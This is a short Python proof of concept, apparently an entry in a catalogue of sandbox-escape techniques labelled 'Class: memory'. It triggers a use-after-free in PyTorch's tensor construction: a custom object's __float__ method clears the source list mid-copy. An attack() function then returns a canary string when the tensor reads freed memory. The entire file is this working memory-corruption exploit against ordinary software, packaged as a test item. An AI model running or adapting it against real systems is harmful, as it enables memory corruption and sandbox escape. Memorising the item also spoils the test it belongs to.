"""Class: memory. Source: own find. Escape: the list is found only inside a sequence of the technique.
Teeth: none, freed memory shows itself only by chance."""

import torch


class Item:
    def __float__(self):
        data.clear()
        kept.append([2.0] * 5000)
        return 0.0


class Outer:
    def __len__(self):
        return 1

    def __getitem__(self, i):
        if i:
            raise IndexError
        return data


kept = []
data = [Item()] + [1.0] * 4999


def attack(model, tokenizer, address):
    made = torch.tensor(Outer(), dtype=torch.float64)
    return "canary-" + "5d1f" if made[0, -1] != 1 else None
